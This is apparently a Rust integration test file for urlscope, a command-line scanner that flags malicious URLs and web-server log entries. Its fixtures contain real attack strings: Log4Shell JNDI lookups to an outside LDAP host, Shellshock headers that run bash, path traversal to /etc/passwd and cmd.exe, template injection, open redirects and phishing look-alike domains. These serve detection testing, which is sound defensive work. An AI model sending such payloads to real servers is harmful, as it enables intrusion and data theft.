//! `urlscope scan` on small files: exact output, exit codes, formats.

use assert_cmd::Command;
use predicates::prelude::*;
use std::io::Write;
use std::path::PathBuf;

fn dir(name: &str) -> PathBuf {
    let d = std::env::temp_dir().join(format!("urlscope-scan-{}-{name}", std::process::id()));
    std::fs::create_dir_all(&d).expect("tmp dir");
    d
}

fn write(path: &PathBuf, bytes: &[u8]) -> String {
    std::fs::write(path, bytes).expect("write");
    path.to_str().expect("utf-8 path").to_string()
}

fn gzip(bytes: &[u8]) -> Vec<u8> {
    let mut enc = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    enc.write_all(bytes).expect("gzip");
    enc.finish().expect("gzip")
}

fn scan() -> Command {
    Command::cargo_bin("urlscope").expect("binary")
}

const LIST: &[u8] = b"\xEF\xBB\xBFhttps://example.com/ok\r\n\
\r\n\
https://example.com/files/..%2f..%2fetc/passwd\r\n\
https://example.com/caf\xE9\n\
   \n\
https://example.com/a?x=%1B]0;owned%07\n\
https://example.com/plain";

#[test]
fn lines_exact_output_and_exit_1() {
    let d = dir("lines");
    let f = write(&d.join("urls.txt"), LIST);
    let out = scan().args(["scan", &f]).output().expect("run");
    assert_eq!(out.status.code(), Some(1));
    let stdout = String::from_utf8(out.stdout).expect("utf-8");
    assert_eq!(
        stdout,
        format!(
            "{f}:3: high path-traversal,sensitive-file,encoded-slash: https://example.com/files/..%2f..%2fetc/passwd\n\
             {f}:4: medium invalid-utf8: https://example.com/caf\\xE9\n\
             {f}:6: high control-char: https://example.com/a?x=%1B]0;owned%07\n"
        )
    );
    let stderr = String::from_utf8(out.stderr).expect("utf-8");
    assert!(
        stderr.contains("urlscope scan: 7 lines, 5 URLs analysed, 3 flagged"),
        "{stderr}"
    );
    assert!(stderr.contains("path-traversal"), "{stderr}");
}

/// A report that cannot be written is said before any line is read:
/// nothing is scanned (and printed) only to fail at the end.
#[test]
fn an_unwritable_html_report_fails_before_the_scan() {
    let d = dir("html-unwritable");
    let f = write(&d.join("urls.txt"), LIST);
    let report = d.join("no-such-dir").join("report.html");
    scan()
        .args(["scan", "--html"])
        .arg(&report)
        .arg(&f)
        .assert()
        .code(2)
        .stdout("")
        .stderr(predicate::str::starts_with("urlscope: scan: cannot write "))
        .stderr(predicate::str::contains("urlscope scan:").not());
    // An existing report is replaced by the new one.
    let report = d.join("report.html");
    std::fs::write(&report, "x".repeat(100_000)).expect("old report");
    scan()
        .args(["scan", "--html"])
        .arg(&report)
        .arg(&f)
        .assert()
        .code(1);
    let page = std::fs::read_to_string(&report).expect("report");
    assert!(page.starts_with("<!DOCTYPE html>"), "{}", &page[..40]);
    assert!(!page.contains("xxxx"));
}

#[test]
fn nothing_flagged_is_exit_0() {
    let d = dir("clean");
    let f = write(
        &d.join("ok.txt"),
        b"https://example.com/\nhttps://example.org/a/b?c=d\n",
    );
    scan().args(["scan", &f]).assert().code(0).stdout("");
}

#[test]
fn min_severity_filters() {
    let d = dir("sev");
    let f = write(&d.join("urls.txt"), LIST);
    let out = scan()
        .args(["scan", "--min-severity", "high", &f])
        .output()
        .expect("run");
    let stdout = String::from_utf8(out.stdout).expect("utf-8");
    assert_eq!(stdout.lines().count(), 2, "{stdout}");
    let out = scan()
        .args(["scan", "--min-severity", "info", &f])
        .output()
        .expect("run");
    let stdout = String::from_utf8(out.stdout).expect("utf-8");
    assert!(stdout.lines().count() >= 3, "{stdout}");
}

/// `scan --json FILE`: its output, and each line read as JSON.
fn json_scan(file: &str) -> (String, Vec<serde_json::Value>) {
    let out = scan().args(["scan", "--json", file]).output().expect("run");
    let stdout = String::from_utf8(out.stdout).expect("utf-8");
    let rows = stdout
        .lines()
        .map(|l| serde_json::from_str(l).expect("json line"))
        .collect();
    (stdout, rows)
}

#[test]
fn json_lines_carry_the_explain_warning_objects() {
    let d = dir("json");
    let f = write(&d.join("urls.txt"), LIST);
    let (stdout, rows) = json_scan(&f);
    assert_eq!(rows.len(), 3);
    assert_eq!(rows[0]["file"], f.as_str());
    assert_eq!(rows[0]["line"], 3);
    assert_eq!(
        rows[0]["input"],
        "https://example.com/files/..%2f..%2fetc/passwd"
    );
    let w = &rows[0]["warnings"][0];
    for key in ["code", "severity", "span", "message"] {
        assert!(!w[key].is_null(), "{key} missing in {w}");
    }
    assert!(!stdout.contains('\u{1b}'), "no raw ESC in JSON output");
}

#[test]
fn json_lines_say_what_a_look_alike_imitates() {
    let d = dir("imitates");
    let f = write(
        &d.join("urls.txt"),
        b"https://paypa1.com/signin\nhttps://www.paypal.com.evil.example/login\nhxxps://www[.]paypa1[.]com/signin\n",
    );
    let (stdout, rows) = json_scan(&f);
    assert_eq!(rows.len(), 3, "{stdout}");
    // A defanged line's span points into the line as written, as its
    // warnings' do: past the '[.]' before it.
    let i = &rows[2]["imitates"];
    assert_eq!(i["span"], serde_json::json!([19, 20]), "{}", rows[2]);
    assert_eq!(rows[2]["warnings"][0]["span"], i["span"]);
    let i = &rows[0]["imitates"];
    assert_eq!(i["domain"], "paypal.com");
    assert_eq!(i["brand"], "PayPal");
    assert_eq!(i["family"], "homoglyph");
    assert_eq!(i["span"], serde_json::json!([13, 14]));
    // A brand's name in the host: the brand's home, by no edit.
    let i = &rows[1]["imitates"];
    assert_eq!(i["domain"], "paypal.com", "{}", rows[1]);
    assert_eq!(i["family"], "brand-in-host");
    assert_eq!(i["span"], serde_json::json!([12, 22]));
}

/// The combined format's Referer and User-Agent are read as text a
/// server logs, renders or hands to a CGI program (what a Referer's URL
/// would do to a visitor is not read); each flagged header is its own
/// record after the request's, counted apart from the URLs.
#[test]
fn access_logs_referer_and_user_agent() {
    let d = dir("headers");
    let log = b"203.0.113.9 - - [10/Oct/2026:13:55:36 +0000] \"GET /a HTTP/1.1\" 200 12 \"https://www.example.com/?q=${jndi:dns://198.51.100.7/a}\" \"${jndi:ldap://198.51.100.7:1389/a}\"\n\
203.0.113.9 - - [10/Oct/2026:13:55:37 +0000] \"GET /cgi-bin/status HTTP/1.1\" 200 12 \"() { :;}; echo; /usr/bin/id\" \"() { :; }; /bin/bash -c id\"\n\
203.0.113.9 - - [10/Oct/2026:13:55:38 +0000] \"GET /index.html HTTP/1.1\" 200 12 \"https://www.example.com/%2e%2e/etc/passwd\" \"Mozilla/5.0 (X11; Linux x86_64)\"\n\
203.0.113.9 - - [10/Oct/2026:13:55:39 +0000] \"GET /%2e%2e/etc/passwd HTTP/1.1\" 404 - \"-\" \"Mozilla/5.0 {{7*7}}\"\n\
203.0.113.9 - - [10/Oct/2026:13:55:40 +0000] \"-\" 400 0 \"-\" \"${jndi:ldap://198.51.100.7/d}\"\n";
    let f = write(&d.join("access.log"), log);
    let out = scan().args(["scan", &f]).output().expect("run");
    assert_eq!(out.status.code(), Some(1));
    let stdout = String::from_utf8(out.stdout).expect("utf-8");
    assert_eq!(
        stdout,
        format!(
            "{f}:1: high jndi-lookup: Referer: https://www.example.com/?q=${{jndi:dns://198.51.100.7/a}}\n\
             {f}:1: high jndi-lookup: User-Agent: ${{jndi:ldap://198.51.100.7:1389/a}}\n\
             {f}:2: high shellshock: Referer: () {{ :;}}; echo; /usr/bin/id\n\
             {f}:2: high shellshock: User-Agent: () {{ :; }}; /bin/bash -c id\n\
             {f}:4: high path-traversal,sensitive-file: /%2e%2e/etc/passwd\n\
             {f}:4: medium template-injection: User-Agent: Mozilla/5.0 {{{{7*7}}}}\n\
             {f}:5: high jndi-lookup: User-Agent: ${{jndi:ldap://198.51.100.7/d}}\n"
        )
    );
    let stderr = String::from_utf8(out.stderr).expect("utf-8");
    assert!(
        stderr.contains(
            "4 URLs analysed, 1 flagged (25.00%) and 6 Referer and User-Agent headers flagged at medium"
        ),
        "{stderr}"
    );
    // A scanner's line with no request line still has its headers read.
    assert!(
        stderr.contains("1 access-log line had no request line"),
        "{stderr}"
    );
    // JSON names the header; the spans point into its value.
    let out = scan().args(["scan", "--json", &f]).output().expect("run");
    let rows: Vec<serde_json::Value> = String::from_utf8(out.stdout)
        .expect("utf-8")
        .lines()
        .map(|l| serde_json::from_str(l).expect("json"))
        .collect();
    assert_eq!(rows.len(), 7);
    assert_eq!(rows[1]["header"], "User-Agent");
    assert_eq!(rows[1]["input"], "${jndi:ldap://198.51.100.7:1389/a}");
    assert_eq!(rows[1]["warnings"][0]["span"], serde_json::json!([0, 34]));
    assert_eq!(rows[0]["header"], "Referer");
    assert!(rows[4].get("header").is_none(), "{}", rows[4]);
    // The HTML report's totals count the headers as the headline does.
    let report = d.join("report.html");
    scan()
        .args(["scan", "--html"])
        .arg(&report)
        .arg(&f)
        .output()
        .expect("run");
    let page = std::fs::read_to_string(&report).expect("report");
    assert!(
        page.contains(
            "<strong>1 flagged</strong> and 6 Referer and User-Agent headers flagged at medium"
        ),
        "{page}"
    );
}

#[test]
fn access_logs_of_every_common_format() {
    let d = dir("logs");
    let log = b"203.0.113.9 - - [10/Oct/2024:13:55:36 -0700] \"GET /index.html HTTP/1.1\" 200 2326\n\
198.51.100.7 - frank [10/Oct/2024:13:55:37 -0700] \"GET /a/%252e%252e/%252e%252e/etc/passwd HTTP/1.1\" 404 0 \"-\" \"curl/8\"\n\
192.0.2.1 - - [10/Oct/2024:13:55:38 +0000] \"GET /x\\x1B[2J HTTP/1.1\" 400 0 \"-\" \"-\"\n\
192.0.2.2 - - [10/Oct/2024:13:55:39 +0000] \"\\x16\\x03\\x01\" 400 0 \"-\" \"-\"\n\
192.0.2.3 - - [10/Oct/2024:13:55:40 +0000] \"POST /login?next=//evil.example HTTP/2.0\" 302 0\n";
    let f = write(&d.join("access.log"), log);
    let out = scan().args(["scan", &f]).output().expect("run");
    assert_eq!(out.status.code(), Some(1));
    let stdout = String::from_utf8(out.stdout).expect("utf-8");
    assert_eq!(
        stdout,
        format!(
            "{f}:2: high path-traversal,sensitive-file,double-encoding: /a/%252e%252e/%252e%252e/etc/passwd\n\
             {f}:3: high control-char: /x\\x1b[2J\n\
             {f}:5: medium open-redirect: /login?next=//evil.example\n"
        )
    );
    let stderr = String::from_utf8(out.stderr).expect("utf-8");
    assert!(stderr.contains("4 URLs analysed"), "{stderr}");
    assert!(
        stderr.contains("1 access-log line had no request line"),
        "{stderr}"
    );
    // Forced as lines, the whole log line is the input.
    let out = scan()
        .args(["scan", "--format", "lines", "--min-severity", "low", &f])
        .output()
        .expect("run");
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(
        stdout.contains(":1: low illegal-char: 203.0.113.9 - - [10/Oct"),
        "{stdout}"
    );
}

#[test]
fn gzip_by_extension_and_by_magic() {
    let d = dir("gz");
    let gz = gzip(LIST);
    let a = write(&d.join("urls.txt.gz"), &gz);
    let b = write(&d.join("compressed-without-extension"), &gz);
    for f in [a, b] {
        let out = scan().args(["scan", &f]).output().expect("run");
        assert_eq!(out.status.code(), Some(1));
        assert_eq!(String::from_utf8_lossy(&out.stdout).lines().count(), 3);
    }
}

#[test]
fn unreadable_file_is_named_and_the_others_are_scanned() {
    let d = dir("missing");
    let f = write(&d.join("urls.txt"), LIST);
    let out = scan()
        .args(["scan", "/nonexistent/urls.txt", &f])
        .output()
        .expect("run");
    assert_eq!(out.status.code(), Some(2));
    assert_eq!(String::from_utf8_lossy(&out.stdout).lines().count(), 3);
    assert!(String::from_utf8_lossy(&out.stderr).contains("cannot read /nonexistent/urls.txt"));
}

#[test]
fn standard_input() {
    scan()
        .args(["scan"])
        .write_stdin("https://example.com/\n/..%2f..%2fwin.ini\n")
        .assert()
        .code(1)
        .stdout(predicate::str::starts_with("-:2: high path-traversal"));
    scan()
        .args(["scan", "-"])
        .write_stdin("")
        .assert()
        .code(0)
        .stdout("");
}

#[test]
fn long_and_binary_lines_never_stop_a_scan() {
    let d = dir("binary");
    let mut bytes = vec![b'a'; 3 << 20];
    bytes.extend_from_slice(b"\n\x00\xFF\xFE/../x\nhttps://example.com/../etc\n");
    let f = write(&d.join("weird.bin"), &bytes);
    let out = scan().args(["scan", &f]).output().expect("run");
    assert_eq!(out.status.code(), Some(1));
    let stdout = String::from_utf8(out.stdout).expect("utf-8 output even for binary input");
    assert!(stdout.contains(":2: high "), "{stdout}");
    assert!(stdout.contains(":3: high path-traversal"), "{stdout}");
    assert!(String::from_utf8_lossy(&out.stderr).contains("1 line longer than"));
}

/// From a pipe, a finding is printed when its line arrives, not when the
/// input ends (`tail -f access.log | urlscope scan`).
#[test]
fn a_pipe_gets_each_finding_as_its_line_arrives() {
    use std::io::{BufRead, BufReader};
    use std::process::Stdio;
    let mut child = std::process::Command::new(assert_cmd::cargo::cargo_bin("urlscope"))
        .args(["scan", "-"])
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::null())
        .spawn()
        .expect("spawn");
    let mut stdin = child.stdin.take().expect("stdin");
    stdin
        .write_all(b"https://example.com/ok\nhttp://a.example/%2e%2e/etc/passwd\n")
        .expect("write");
    stdin.flush().expect("flush");
    // The input stays open while the first finding is read; a watchdog
    // ends the child (and so this read) if the finding never comes.
    let (done, wait) = std::sync::mpsc::channel::<()>();
    let pid = child.id();
    let watchdog = std::thread::spawn(move || {
        if wait
            .recv_timeout(std::time::Duration::from_secs(60))
            .is_err()
        {
            let _ = std::process::Command::new("kill")
                .arg(pid.to_string())
                .status();
        }
    });
    let mut first = String::new();
    BufReader::new(child.stdout.take().expect("stdout"))
        .read_line(&mut first)
        .expect("read");
    let _ = done.send(());
    let _ = watchdog.join();
    drop(stdin);
    let _ = child.wait();
    assert_eq!(
        first,
        "-:2: high path-traversal,sensitive-file: http://a.example/%2e%2e/etc/passwd\n"
    );
}

/// An e-mail a user reported: prose, a markdown link, a link in angle
/// brackets, links followed by punctuation.
const EMAIL: &[u8] = b"Dear customer,\n\
Your account is on hold. Click here: https://paypa1.com/signin to verify.\n\
Or see [our help](https://help.example.com/faq_(billing)) and <https://evil.example/%2e%2e/%2e%2e/etc/passwd>.\n\
Questions? Write to (https://example.com/contact), or www.paypa1.com/help!\n\
Thanks, The Team\n";

#[test]
fn text_finds_each_url_of_an_email() {
    let d = dir("email");
    let f = write(&d.join("mail.txt"), EMAIL);
    // Most lines are prose: `auto` reads the file as text.
    for args in [vec!["scan"], vec!["scan", "--format", "text"]] {
        let out = scan().args(&args).arg(&f).output().expect("run");
        assert_eq!(out.status.code(), Some(1));
        assert_eq!(
            String::from_utf8(out.stdout).expect("utf-8"),
            format!(
                "{f}:2: high lookalike-domain: https://paypa1.com/signin\n\
                 {f}:3: high path-traversal,sensitive-file: https://evil.example/%2e%2e/%2e%2e/etc/passwd\n\
                 {f}:4: high lookalike-domain: www.paypa1.com/help\n"
            )
        );
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert!(
            stderr.contains("5 lines, 5 URLs analysed, 3 flagged"),
            "{stderr}"
        );
    }
    // Read as one URL per line, prose is no URL.
    let out = scan()
        .args(["scan", "--format", "lines", &f])
        .output()
        .expect("run");
    assert!(!String::from_utf8_lossy(&out.stdout).contains(":2: high lookalike-domain: https"));
}

#[test]
fn text_reads_defanged_urls_of_a_threat_report() {
    let d = dir("report");
    let f = write(
        &d.join("report.txt"),
        b"The actor hosted the kit at hxxps://paypa1[.]com/login and later at\n\
          paypa1 [.] com, redirecting through http[:]//127.1/ (see IOC list).\n",
    );
    let out = scan()
        .args(["scan", "--format", "text", &f])
        .output()
        .expect("run");
    assert_eq!(
        String::from_utf8(out.stdout).expect("utf-8"),
        format!(
            "{f}:1: high lookalike-domain: hxxps://paypa1[.]com/login\n\
             {f}:2: high lookalike-domain: paypa1 [.] com\n\
             {f}:2: high ip-obfuscation,internal-destination: http[:]//127.1/\n"
        )
    );
}

#[test]
fn text_json_says_where_each_url_is_and_spans_point_into_it() {
    let d = dir("text-json");
    let line = b"two links: https://a.example/%252e%252e/x, and go to www.paypa1.com/x.\nno link at all here\n";
    let f = write(&d.join("two.txt"), line);
    let out = scan()
        .args(["scan", "--json", "--format", "text", &f])
        .output()
        .expect("run");
    let stdout = String::from_utf8(out.stdout).expect("utf-8");
    let rows: Vec<serde_json::Value> = stdout
        .lines()
        .map(|l| serde_json::from_str(l).expect("json"))
        .collect();
    assert_eq!(rows.len(), 2, "{stdout}");
    let text = std::str::from_utf8(line).expect("utf-8");
    for row in &rows {
        assert_eq!(row["line"], 1);
        let input = row["input"].as_str().expect("input");
        let at = &row["at"];
        let (a, b) = (
            at[0].as_u64().expect("at") as usize,
            at[1].as_u64().expect("at") as usize,
        );
        assert_eq!(&text[a..b], input, "{row}");
        for w in row["warnings"].as_array().expect("warnings") {
            let (s, e) = (
                w["span"][0].as_u64().expect("span") as usize,
                w["span"][1].as_u64().expect("span") as usize,
            );
            assert!(e <= input.len(), "{w} outside {input}");
            if w["code"] == "double-encoding" {
                assert_eq!(&input[s..e], "%252e%252e", "{w}");
            }
            if w["code"] == "lookalike-domain" {
                assert_eq!(&input[s..e], "1", "{w}");
            }
        }
    }
    assert_eq!(rows[0]["input"], "https://a.example/%252e%252e/x");
    assert_eq!(rows[1]["input"], "www.paypa1.com/x");
    assert_eq!(rows[1]["imitates"]["span"], serde_json::json!([9, 10]));
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        stderr.contains("2 lines, 2 URLs analysed, 2 flagged"),
        "{stderr}"
    );
}

#[test]
fn text_keeps_invalid_utf8_and_escapes_it() {
    let d = dir("text-bytes");
    let f = write(
        &d.join("latin1.txt"),
        b"caf\xE9 cr\xE8me \xFF<https://example.com/caf\xE9>\xFE and \xC3\n",
    );
    let out = scan()
        .args(["scan", "--format", "text", &f])
        .output()
        .expect("run");
    assert_eq!(out.status.code(), Some(1));
    assert_eq!(
        String::from_utf8(out.stdout).expect("utf-8 output"),
        format!("{f}:1: medium invalid-utf8: https://example.com/caf\\xE9\n")
    );
}

#[test]
fn text_of_a_one_megabyte_line() {
    let d = dir("text-long");
    let mut line = b"https://example.com/%2e%2e/etc/passwd ".to_vec();
    while line.len() < 500_000 {
        line.extend_from_slice(b"lorem (ipsum) [dolor] sit: amet, e.g. www. ");
    }
    line.extend_from_slice(b"<http://127.1/> ");
    while line.len() < 999_950 {
        line.extend_from_slice(b"a[.] b ");
    }
    line.extend_from_slice(b"last: hxxp://evil[.]example/%252e%252e/");
    assert!(line.len() < 1 << 20);
    let f = write(&d.join("long.txt"), &line);
    let out = scan()
        .args(["scan", "--format", "text", &f])
        .output()
        .expect("run");
    let stdout = String::from_utf8(out.stdout).expect("utf-8");
    let found: Vec<&str> = stdout
        .lines()
        .map(|l| l.rsplit(": ").next().expect("url"))
        .collect();
    assert_eq!(
        found,
        [
            "https://example.com/%2e%2e/etc/passwd",
            "http://127.1/",
            "hxxp://evil[.]example/%252e%252e/"
        ],
        "{stdout}"
    );
    assert!(!String::from_utf8_lossy(&out.stderr).contains("cut"));
}

#[test]
fn a_url_list_stays_one_url_per_line() {
    let d = dir("auto-lines");
    // A list of URLs, one with a raw space, is still read whole.
    let f = write(
        &d.join("urls.txt"),
        b"https://example.com/ok\nhttps://example.com/sign in/..%2f..%2fetc/passwd\n/..%2f..%2fwin.ini\n",
    );
    let out = scan().args(["scan", &f]).output().expect("run");
    let stdout = String::from_utf8(out.stdout).expect("utf-8");
    assert!(stdout.contains(":2: high "), "{stdout}");
    assert!(stdout.contains("sign in/..%2f"), "{stdout}");
    assert!(stdout.contains(":3: high path-traversal"), "{stdout}");
}

#[test]
fn w3c_extended_logs_of_iis() {
    let d = dir("w3c");
    let log = b"#Software: Microsoft Internet Information Services 10.0\r\n\
#Version: 1.0\r\n\
#Date: 2024-10-10 13:55:00\r\n\
#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) sc-status\r\n\
2024-10-10 13:55:36 10.0.0.5 GET /index.html - 80 - 192.0.2.7 Mozilla/5.0 200\r\n\
2024-10-10 13:55:37 10.0.0.5 GET /scripts/..%255c../winnt/system32/cmd.exe /c+dir 80 - 192.0.2.7 - 404\r\n\
2024-10-10 13:55:38\r\n\
#Fields: date time cs-method cs-uri-query cs-uri-stem\r\n\
2024-10-10 13:56:00 GET next=//evil.example /login\r\n";
    let f = write(&d.join("u_ex241010.log"), log);
    for args in [vec!["scan"], vec!["scan", "--format", "w3c"]] {
        let out = scan().args(&args).arg(&f).output().expect("run");
        assert_eq!(out.status.code(), Some(1));
        assert_eq!(
            String::from_utf8(out.stdout).expect("utf-8"),
            format!(
                "{f}:6: high path-traversal,sensitive-file,double-encoding: /scripts/..%255c../winnt/system32/cmd.exe?/c+dir\n\
                 {f}:9: medium open-redirect: /login?next=//evil.example\n"
            )
        );
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert!(stderr.contains("3 URLs analysed"), "{stderr}");
        assert!(
            stderr.contains("1 access-log line had no request line"),
            "{stderr}"
        );
    }
    // A file with no directive naming the URL is said to be one, not
    // counted as access-log lines without a request line.
    let f = write(
        &d.join("mail.eml"),
        b"Hello team,\nplease see https://paypa1.com/x today\n",
    );
    let out = scan()
        .args(["scan", "--format", "w3c", &f])
        .output()
        .expect("run");
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        stderr.contains("2 lines came before any #Fields: directive naming cs-uri-stem or cs-uri"),
        "{stderr}"
    );
    assert!(!stderr.contains("request line"), "{stderr}");
}
